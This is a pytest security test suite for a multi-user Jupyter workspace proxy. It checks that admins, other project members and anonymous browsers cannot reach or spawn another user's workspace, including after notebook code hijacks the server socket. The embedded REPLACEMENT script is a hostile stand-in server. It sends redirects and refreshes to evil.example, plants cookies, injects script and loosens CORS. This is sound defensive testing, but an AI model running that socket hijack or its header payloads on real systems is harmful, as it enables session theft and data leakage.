"""Nobody opens a workspace but its owner: not an admin, not a member of the same project, not a browser without a
session; and not after notebook code has put a server of its own in the place of Jupyter's.
"""

import re
from collections.abc import Iterator

import pytest
import websocket

from tests.running import Stack
from tests.stack.people import Kernel, People, Person

pytestmark = pytest.mark.stack
PROJECT = "diabetes-care"


class TestAnAdmin:
    def test_opens_no_workspace(self, stack: Stack, people: People, erin: Person) -> None:
        adam = people("adam")
        assert adam.get("/desk/admin").status_code == 200, "the control: adam is the admin"
        for path in (f"/workspace/{PROJECT}", f"/workspace/{PROJECT}/status"):
            assert adam.get(path).status_code == 404
        assert adam.post(f"/workspace/{PROJECT}/start").status_code == 404
        for owner in ("erin", "adam"):
            for path in ("", "lab", "api", "api/contents", "enter?ticket=x"):
                assert adam.inside(PROJECT, path, owner=owner).status_code in (401, 403)
        assert erin.inside(PROJECT, "api/contents").status_code == 200
        assert not stack.running("adam", PROJECT)

    def test_starts_none_by_the_hubs_own_addresses(self, stack: Stack, people: People, erin: Person) -> None:
        adam = people("adam")
        ways = [("GET", "/hub/spawn"), ("GET", "/hub/api/users"), ("POST", "/hub/api/users/adam/tokens")]
        ways += [("POST", "/hub/api/users/adam/server"), ("DELETE", f"/hub/api/users/erin/servers/{PROJECT}")]
        for whose in ("adam", "erin"):
            ways += [(method, f"/hub/spawn/{whose}/{PROJECT}") for method in ("GET", "POST")]
            ways += [("POST", f"/hub/api/users/{whose}/servers/{PROJECT}")]
        container = erin.container(PROJECT)
        for method, way in ways:
            answer = adam.ask(method, way, headers={"Referer": stack.url + "/hub/home"})
            assert answer.status_code >= 400 or "Location" in answer.headers, (way, answer.status_code)
        assert not stack.running("adam", PROJECT)
        assert erin.container(PROJECT) == container


def refused_channel(person: Person, owner: str, path: str, origin: str = "") -> int:
    """The status with which a WebSocket is refused; fail when it opens."""
    with pytest.raises(websocket.WebSocketBadStatusException) as refused:
        person.channel(PROJECT, path, owner=owner, origin=origin).close()
    return refused.value.status_code


@pytest.mark.parametrize("name", ["bob", "alice", "adam", ""])
def test_others_are_refused_at_a_workspaces_address(people: People, erin: Person, name: str) -> None:
    """Bob is a member of the same project, with a workspace of his own in it."""
    other = people(name) if name else people.nobody()
    if name == "bob":
        other.start(PROJECT)
        other.enter(PROJECT)
    kernel = Kernel(erin, PROJECT)
    kernel.close()
    path = f"api/kernels/{kernel.id}/channels"
    for below in ("", "lab", "api", "api/contents/project", "api/kernels", "static/x.js", "enclave/requests"):
        assert other.inside(PROJECT, below, owner="erin").status_code in (401, 403), below
    assert other.inside(PROJECT, "api/kernels", "POST", owner="erin", json={}).status_code in (401, 403)
    assert refused_channel(other, "erin", path) in (401, 403)
    assert refused_channel(erin, "erin", path, origin="http://evil.example") == 403
    assert erin.inside(PROJECT, "api/kernels").status_code == 200
    erin.channel(PROJECT, path).close()


# Takes the place of the Jupyter server on its socket and answers everything with a secret, as badly as it can.
REPLACEMENT = r"""
import os, pathlib, socket, threading
PATH = "/run/enclave/server/server.sock"
os.umask(0)  # the folder decides who may connect
pathlib.Path(PATH).unlink()
listener = socket.socket(socket.AF_UNIX); listener.bind(PATH); listener.listen(64)
WAYS = {
    "attachment": "Content-Disposition: attachment; filename=x.csv\r\n",
    "cookie": "Set-Cookie: stolen=1; Path=/\r\nSet-Cookie: enclave-session=x\r\n",
    "redirect": "Location: http://evil.example/?the-secret\r\n",
    "refresh": "Refresh: 0;url=http://evil.example/\r\n",
}
def answer(connection):
    with connection:
        asked = b""
        while b"\r\n\r\n" not in asked:
            more = connection.recv(65536)
            if not more:
                return
            asked += more
        way = asked.split(b" ")[1].decode().rpartition("?")[2]
        status = "302 Found" if way == "redirect" else "200 OK"
        body = b"<html><script>alert('the-secret')</script></html>"
        kind = "text/html" if way == "page" else "application/json"
        lines = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
        lines += "Connection: close\r\nAccess-Control-Allow-Origin: *\r\nContent-Security-Policy: default-src *\r\n"
        connection.sendall((lines + WAYS.get(way, "") + "\r\n").encode() + body)
print("replaced", flush=True)
while True:
    threading.Thread(target=answer, args=listener.accept()[:1], daemon=True).start()
"""


@pytest.fixture(scope="module")
def replaced(erin: Person) -> Iterator[Person]:
    kernel = Kernel(erin, PROJECT)
    code = f"import subprocess, sys\nproc = subprocess.Popen([sys.executable, '-c', {REPLACEMENT!r}], stdout=-1)\n"
    assert kernel.run(code + "print(proc.stdout.readline())") == "b'replaced\\n'"
    kernel.close()
    yield erin
    erin.stop(PROJECT)
    erin.start(PROJECT)
    erin.enter(PROJECT)


class TestAfterTheServerWasReplaced:
    """Notebook code unlinks the socket and binds a server of its own; it runs as the same user, so it may."""

    @pytest.mark.parametrize("name", ["bob", "alice", "adam", ""])
    def test_others_still_reach_nothing(self, people: People, replaced: Person, name: str) -> None:
        assert "the-secret" in replaced.inside(PROJECT, "api").text, "the control: its owner reaches the new server"
        other = people(name) if name else people.nobody()
        for below in ("", "lab", "api", "api/contents", "static/x.js", "api?attachment"):
            answer = other.inside(PROJECT, below, owner="erin")
            assert answer.status_code in (401, 403) and "the-secret" not in answer.text
        assert refused_channel(other, "erin", "api/kernels/x/channels") in (401, 403)

    def test_its_words_reach_the_owner_as_data_and_never_as_a_page(self, replaced: Person) -> None:
        answer = replaced.inside(PROJECT, "api/contents")
        assert answer.status_code == 200
        assert answer.headers["Content-Type"].startswith("application/json")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "sandbox" in policy and "default-src *" not in policy
        assert "Access-Control-Allow-Origin" not in answer.headers

    def test_what_must_be_a_page_is_ours_and_comes_with_our_policy(self, replaced: Person) -> None:
        answer = replaced.inside(PROJECT, "lab")
        assert answer.status_code == 200
        assert "the-secret" not in answer.text and "jupyter-config-data" in answer.text
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "default-src *" not in policy
        assert "'unsafe-inline'" not in re.search(r"script-src[^;]*", policy)[0]  # type: ignore[index]
        assert "frame-ancestors " + replaced.stack.url in policy

    def test_no_script_style_or_logo_of_its_own(self, replaced: Person) -> None:
        for below in (
            "static/x.js",
            "lab/extensions/x/static/x.js",
            "lab/api/themes/x/index.css",
            "custom/custom.css",
        ):
            answer = replaced.inside(PROJECT, below)
            assert answer.status_code == 404 and "the-secret" not in answer.text
        assert replaced.inside(PROJECT, "kernelspecs/python3/logo-64x64.png").content.startswith(b"\x89PNG")

    @pytest.mark.parametrize("way", ["attachment", "redirect", "page"])
    def test_no_download_no_page_and_no_redirect_elsewhere(self, replaced: Person, way: str) -> None:
        for below in ("api", "api/contents/x", "lab/api/settings"):
            answer = replaced.inside(PROJECT, f"{below}?{way}")
            assert answer.status_code == 502 and "the-secret" not in answer.text
            assert "Location" not in answer.headers and "Content-Disposition" not in answer.headers

    def test_no_cookie_and_no_refresh(self, replaced: Person) -> None:
        for way in ("cookie", "refresh"):
            answer = replaced.inside(PROJECT, f"api?{way}")
            assert answer.status_code == 200
            assert not {"Set-Cookie", "Refresh"} & set(answer.headers)

    def test_no_document_of_its_own_opens_in_a_window(self, replaced: Person) -> None:
        answer = replaced.inside(PROJECT, "lab", headers={"Sec-Fetch-Dest": "document"})
        assert (
            answer.status_code == 302 and answer.headers["Location"] == f"{replaced.stack.url}/workspace/{PROJECT}"
        )
        for destination in ("iframe", "embed", "object", "serviceworker"):
            answer = replaced.inside(PROJECT, "api/contents", headers={"Sec-Fetch-Dest": destination})
            assert answer.status_code == 403 and "the-secret" not in answer.text
